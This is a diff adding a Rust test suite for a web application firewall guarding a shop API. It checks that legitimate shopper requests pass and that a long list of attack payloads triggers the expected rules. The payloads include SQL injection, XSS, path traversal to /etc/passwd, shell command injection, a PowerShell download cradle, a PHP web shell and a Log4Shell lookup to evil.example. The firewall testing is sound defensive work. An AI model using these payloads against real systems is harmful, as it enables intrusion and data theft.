@@ -1,0 +1,382 @@
+use http::{HeaderMap, HeaderName, HeaderValue, Method};
+
+use super::*;
+
+fn waf() -> Waf {
+    Waf::new(Config::parse(Config::default_file()).unwrap()).unwrap()
+}
+
+struct Req {
+    method: Method,
+    uri: String,
+    headers: HeaderMap,
+    body: Vec<u8>,
+}
+
+fn req(method: Method, uri: &str) -> Req {
+    let mut headers = HeaderMap::new();
+    headers.insert(header::HOST, HeaderValue::from_static("shop.example"));
+    headers.insert(
+        header::USER_AGENT,
+        HeaderValue::from_static("Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0"),
+    );
+    headers.insert(
+        header::ACCEPT,
+        HeaderValue::from_static("application/json, */*;q=0.8"),
+    );
+    Req {
+        method,
+        uri: uri.to_owned(),
+        headers,
+        body: Vec::new(),
+    }
+}
+
+fn get(uri: &str) -> Req {
+    req(Method::GET, uri)
+}
+
+fn post(uri: &str, content_type: &'static str, body: &str) -> Req {
+    let mut r = req(Method::POST, uri);
+    r.headers
+        .insert(header::CONTENT_TYPE, HeaderValue::from_static(content_type));
+    r.body = body.as_bytes().to_vec();
+    r
+}
+
+fn json(uri: &str, body: &str) -> Req {
+    post(uri, "application/json", body)
+}
+
+impl Req {
+    fn header(mut self, name: &'static str, value: &str) -> Req {
+        self.headers.append(
+            HeaderName::from_static(name),
+            HeaderValue::from_bytes(value.as_bytes()).unwrap(),
+        );
+        self
+    }
+
+    fn verdict(&self, waf: &Waf) -> Verdict {
+        let (path, query) = match self.uri.split_once('?') {
+            Some((path, query)) => (path, Some(query)),
+            None => (self.uri.as_str(), None),
+        };
+        waf.inspect(&Request {
+            method: &self.method,
+            path,
+            query,
+            headers: &self.headers,
+            body: &self.body,
+        })
+    }
+}
+
+/// Requests every shopper, seller and admin flow of the contract sends, with the awkward but
+/// legitimate text real people type.
+fn shop_flows() -> Vec<Req> {
+    vec![
+        get("/products?category_id=0196f5a2-8c1e-7d3b-9a4f-1b2c3d4e5f60&limit=20"),
+        get("/products?cursor=eyJpZCI6IjAxOTZmNWEyIiwidCI6MTcwMH0&limit=100"),
+        get("/search?q=men%27s+running+shoes&sort=price_asc&min_price=1000&max_price=25000"),
+        get("/search?q=O%27Reilly+%22Programming+Rust%22&limit=10"),
+        get("/search?q=select+your+size+from+the+menu"),
+        get("/search?q=union+was+a+great+select"),
+        get("/search?q=drop+earrings+2+pack"),
+        get("/search?q=1%2F2+inch+drill+bit+%26+case"),
+        get("/search?q=caf%C3%A9+cr%C3%A8me+br%C3%BBl%C3%A9e"),
+        get("/search?q=USB-C+(2m)+cable+%E2%80%93+100W"),
+        get("/search?q=rock+%26+roll+t-shirt&category_id=0196f5a2-8c1e-7d3b-9a4f-1b2c3d4e5f60"),
+        get("/search/suggestions?q=iph"),
+        get("/search?q=echo+dot+smart+speaker"),
+        get("/search?q=cat+toys"),
+        get("/search?q=ls+300+lexus"),
+        get("/search?q=bash+away+in+the+gym"),
+        get("/products/0196f5a2-8c1e-7d3b-9a4f-1b2c3d4e5f60/reviews?limit=5"),
+        get("/recommendations/user/0196f5a2-8c1e-7d3b-9a4f-1b2c3d4e5f60?limit=10"),
+        get("/.well-known/jwks.json"),
+        get("/orders?limit=20").header("authorization", "Bearer eyJhbGciOiJFZERTQSIsImtpZCI6ImsxIiwidHlwIjoiSldUIn0.eyJzdWIiOiIxIn0.c2ln"),
+        get("/cart").header("x-cart-token", "b3f1c2d4-5e6f-4a7b-8c9d-0e1f2a3b4c5d"),
+        get("/products?limit=20").header("referer", "https://shop.example/products?page=2&sort=price"),
+        get("/products?limit=20").header("cookie", "theme=dark; _ga=GA1.2.1234567890.1700000000; consent={\"ads\":false}"),
+        get("/products").header("user-agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Mobile/15E148 Safari/604.1"),
+        get("/products").header("user-agent", "k6/1.0.0 (https://k6.io/)"),
+        json("/users/register", r#"{"email":"o'brien+shop@example.com","password":"' OR 1=1 -- <script>x</script>","name":"Siobhán O'Brien"}"#),
+        json("/users/login", r#"{"email":"jane@example.com","password":"c0rrect-h0rse; DROP battery"}"#),
+        json("/cart/items", r#"{"product_id":"0196f5a2-8c1e-7d3b-9a4f-1b2c3d4e5f60","quantity":2}"#)
+            .header("x-cart-token", "b3f1c2d4-5e6f-4a7b-8c9d-0e1f2a3b4c5d"),
+        json("/orders", r#"{"address_id":"0196f5a2-8c1e-7d3b-9a4f-1b2c3d4e5f60","payment_token":"tok_visa"}"#)
+            .header("idempotency-key", "checkout-2026-11-25T10:00:00Z-7f3a"),
+        json("/users/0196f5a2-8c1e-7d3b-9a4f-1b2c3d4e5f60/addresses", r#"{"line1":"12 Rue de l'Église","line2":"Apt. #4 (rear)","city":"Saint-Étienne","postal_code":"42000","country":"FR"}"#),
+        json("/products/0196f5a2-8c1e-7d3b-9a4f-1b2c3d4e5f60/reviews", r#"{"rating":4,"title":"Works -- mostly","body":"Select the larger size; it runs small. I'd order again & again :) 5/5 would buy... <3\nAlso: the 'quick start' guide (p. 2) is wrong, use 1=1 mapping."}"#),
+        json("/products/0196f5a2-8c1e-7d3b-9a4f-1b2c3d4e5f60/reviews", r#"{"rating":5,"body":"Bought it for my son's room; he says it's \"the best\". Delivery was on time = happy. Price < $20 & quality > expected!"}"#),
+        json("/products", r#"{"name":"Tom & Jerry's Mug (350 ml)","description":"Dishwasher-safe. Holds 12 oz; see chart: S/M/L. Use code SAVE10 at checkout.","price":{"amount":1299,"currency":"USD"},"category_id":"0196f5a2-8c1e-7d3b-9a4f-1b2c3d4e5f60","attributes":{"color":"red/white","material":"stoneware"}}"#),
+        json("/products", r#"{"name":"Script Pen – Calligraphy Set","description":"For <b>bold</b> lettering; includes 3 nibs (0.5/1.0/2.0 mm).","price":{"amount":2500,"currency":"EUR"}}"#),
+        json("/inventory/0196f5a2-8c1e-7d3b-9a4f-1b2c3d4e5f60", r#"{"region":"eu-west","available":50}"#),
+        json("/orders/0196f5a2-8c1e-7d3b-9a4f-1b2c3d4e5f60/cancel", r#"{"reason":"Ordered the wrong size (M instead of L) - sorry!"}"#),
+        json("/notifications/send", r#"{"user_id":"0196f5a2-8c1e-7d3b-9a4f-1b2c3d4e5f60","channel":"email","template":"order_shipped","data":{"tracking":"1Z999AA10123456784"}}"#),
+        post("/users/login", "application/x-www-form-urlencoded", "email=jane%40example.com&password=p%40ss%27word"),
+        req(Method::DELETE, "/cart/items/0196f5a2-8c1e-7d3b-9a4f-1b2c3d4e5f60"),
+    ]
+}
+
+#[test]
+fn the_shop_flows_pass() {
+    let waf = waf();
+    for request in shop_flows() {
+        let verdict = request.verdict(&waf);
+        assert!(
+            !verdict.anomalous,
+            "{} {} {:?} blocked: {:?}",
+            request.method,
+            request.uri,
+            String::from_utf8_lossy(&request.body),
+            verdict.hits
+        );
+    }
+}
+
+/// One attack of each family, in each place it can hide, with the rule expected to catch it.
+#[test]
+fn attacks_are_caught_by_the_expected_rule() {
+    let waf = waf();
+    let cases: Vec<(u32, Req)> = vec![
+        (942100, get("/search?q=1%27%20OR%20%271%27%3D%271")),
+        (
+            942100,
+            get("/products?id=1+union+select+password+from+users--"),
+        ),
+        (
+            942190,
+            get("/search?q=x%27%20UNION/**/SELECT%20null,version()--"),
+        ),
+        (
+            942100,
+            json(
+                "/cart/items",
+                r#"{"product_id":"1' AND SLEEP(5)#","quantity":1}"#,
+            ),
+        ),
+        (942160, get("/search?q=sleep(10)")),
+        (942140, get("/search?q=foo+from+information_schema.tables")),
+        (942280, get("/search?q=1;WAITFOR%20DELAY%20%270:0:5%27--")),
+        (942290, get("/users/login?email[$ne]=x")),
+        (942350, get("/search?q=x%3B%20DROP%20TABLE%20users")),
+        (942500, get("/search?q=1/*!50000union*/")),
+        (942100, get("/search?q=%2527%2520or%25201%253D1--")),
+        (
+            942100,
+            get("/search").header("cookie", "session=1' or '1'='1"),
+        ),
+        (941100, get("/search?q=%3Cscript%3Ealert(1)%3C/script%3E")),
+        (
+            941110,
+            get("/search?q=%26lt%3Bscript%26gt%3Balert(1)%26lt%3B/script%26gt%3B"),
+        ),
+        (
+            941120,
+            json(
+                "/products/x/reviews",
+                r#"{"body":"<img src=x onerror=alert(document.domain)>"}"#,
+            ),
+        ),
+        (941140, get("/search?q=javascript:alert(1)")),
+        (
+            941160,
+            get("/search?q=%EF%BC%9Csvg/onload=alert(1)%EF%BC%9E"),
+        ),
+        (941180, get("/search?q=%22%3Edocument.cookie")),
+        (
+            941100,
+            get("/search?q=\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"),
+        ),
+        (
+            941100,
+            get("/search").header("referer", "http://x/<script>alert(1)</script>"),
+        ),
+        (941350, get("/search?q=%2BADw-script%2BAD4-")),
+        (930100, get("/static/%2e%2e%2f%2e%2e%2fetc%2fpasswd")),
+        (
+            930110,
+            get("/search?file=..%252f..%252f..%252fetc%252fpasswd"),
+        ),
+        (930120, get("/search?file=/etc/shadow")),
+        (930120, get("/search?q=C:%5Cboot.ini")),
+        (931100, get("/search?url=http://192.168.1.10/shell.txt")),
+        (932235, get("/search?q=x%3Bcat%20/etc/passwd")),
+        (932230, get("/search?q=a|w'h'o'am'i")),
+        (932235, get("/search?q=x%26%26sleep+5")),
+        (932130, get("/search?q=$(id)")),
+        (932160, get("/search?q=1;/bin/bash+-c+id")),
+        (
+            932170,
+            get("/search").header("user-agent", "() { :; }; /bin/bash -c 'curl x'"),
+        ),
+        (932110, get("/search?q=x|cmd.exe%20/c%20dir")),
+        (
+            932120,
+            get(
+                "/search?q=powershell+-enc+IEX(New-Object+Net.WebClient).DownloadString('http://x')",
+            ),
+        ),
+        (
+            933100,
+            json(
+                "/products/x/reviews",
+                r#"{"body":"<?php system($_GET['c']); ?>"}"#,
+            ),
+        ),
+        (933150, get("/search?q=phpinfo()")),
+        (933170, get("/search?q=O:8:%22stdClass%22:1:{s:1:%22a%22;}")),
+        (
+            933140,
+            get("/search?q=php://filter/convert.base64-encode/resource=index.php"),
+        ),
+        (
+            934130,
+            json("/cart/items", r#"{"__proto__":{"admin":true}}"#),
+        ),
+        (934100, get("/search?q=require('child_process').exec('id')")),
+        (
+            934110,
+            get("/search?url=http://169.254.169.254/latest/meta-data/"),
+        ),
+        (934910, get("/search?q={{7*7}}")),
+        (
+            944150,
+            get("/search").header("x-api-version", "${jndi:ldap://evil.example/a}"),
+        ),
+        (944150, get("/search?q=${${lower:j}ndi:ldap://x/a}")),
+        (
+            944100,
+            get("/search?q=java.lang.Runtime.getRuntime().exec(%22id%22)"),
+        ),
+        (
+            943100,
+            get("/search?q=%3Cscript%3Edocument.cookie=%22sid=1;%20domain=.evil%22%3C/script%3E"),
+        ),
+        (943120, get("/login?PHPSESSID=abc123")),
+        (921120, get("/search?q=x%0d%0aSet-Cookie:%20sid=evil")),
+        (
+            921110,
+            json(
+                "/orders",
+                "{\"note\":\"x\\r\\n\\r\\nGET /admin HTTP/1.1\\r\\nHost: x\"}",
+            ),
+        ),
+        (921200, get("/search?user=*)(uid=*))(|(uid=*")),
+        (920170, get("/search").header("content-length", "5")),
+        (920420, post("/orders", "text/plain", "hello")),
+        (920440, get("/backup.sql")),
+        (
+            920450,
+            get("/products").header("x-http-method-override", "DELETE"),
+        ),
+        (920270, get("/search?q=a%00b")),
+        (
+            920120,
+            post(
+                "/uploads",
+                "multipart/form-data; boundary=b",
+                "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a';.jpg\"\r\n\r\nx\r\n--b--\r\n",
+            ),
+        ),
+        (
+            933110,
+            post(
+                "/uploads",
+                "multipart/form-data; boundary=b",
+                "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"shell.php\"\r\nContent-Type: image/png\r\n\r\nx\r\n--b--\r\n",
+            ),
+        ),
+        (
+            942100,
+            post(
+                "/uploads",
+                "multipart/form-data; boundary=b",
+                "--b\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n1' or '1'='1\r\n--b--\r\n",
+            ),
+        ),
+        (
+            934920,
+            post(
+                "/feed",
+                "application/xml",
+                "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
+            ),
+        ),
+        (
+            942100,
+            post(
+                "/login",
+                "application/x-www-form-urlencoded",
+                "user=admin%27--&pass=x",
+            ),
+        ),
+        // Base64 of `' or 1=1 --`, as an API that decodes its input would run it.
+        (942100, get("/search?q=JyBvciAxPTEgLS0")),
+        (
+            913100,
+            get("/").header("user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
+        ),
+    ];
+    let mut missed = Vec::new();
+    for (rule, request) in &cases {
+        let verdict = request.verdict(&waf);
+        if !verdict.anomalous || !verdict.hits.iter().any(|h| h.rule == *rule) {
+            missed.push(format!(
+                "{rule}: {} {} -> {:?}",
+                request.method, request.uri, verdict.hits
+            ));
+        }
+    }
+    assert!(missed.is_empty(), "missed:\n{}", missed.join("\n"));
+}
+
+#[test]
+fn exclusions_disabled_rules_and_paranoia_apply() {
+    let attack = json(
+        "/users/register",
+        r#"{"email":"a@b.c","password":"x","name":"1' or '1'='1"}"#,
+    );
+    let password = json(
+        "/users/register",
+        r#"{"email":"a@b.c","password":"1' or '1'='1"}"#,
+    );
+    let waf = waf();
+    // The password is excluded on the user routes; other fields are not.
+    assert!(!password.verdict(&waf).anomalous);
+    assert!(attack.verdict(&waf).anomalous);
+    // The same field on another route is inspected.
+    let elsewhere = json("/products", r#"{"password":"1' or '1'='1"}"#);
+    assert!(elsewhere.verdict(&waf).anomalous);
+
+    let config = Config::parse("mode = \"block\"\ndisabled_rules = [\"942000-942999\"]").unwrap();
+    let lenient = Waf::new(config).unwrap();
+    let verdict = attack.verdict(&lenient);
+    assert!(
+        verdict.hits.iter().all(|h| h.rule / 1000 != 942),
+        "{:?}",
+        verdict.hits
+    );
+
+    // A notice alone (body without Content-Type, 2) stays under the threshold.
+    let mut untyped = req(Method::POST, "/orders");
+    untyped.body = b"{}".to_vec();
+    let verdict = untyped.verdict(&waf);
+    assert_eq!(verdict.score, 2);
+    assert!(!verdict.anomalous);
+}
+
+#[test]
+fn every_rule_compiles_and_a_verdict_names_its_rules() {
+    let waf = waf();
+    let verdict = get("/search?q=%3Cscript%3Ealert(1)%3C/script%3E").verdict(&waf);
+    assert!(verdict.score >= 5);
+    assert!(
+        verdict.rule_ids().contains("941110"),
+        "{}",
+        verdict.rule_ids()
+    );
+    assert!(verdict.hits.iter().any(|h| h.target == "ARGS:q"));
+}
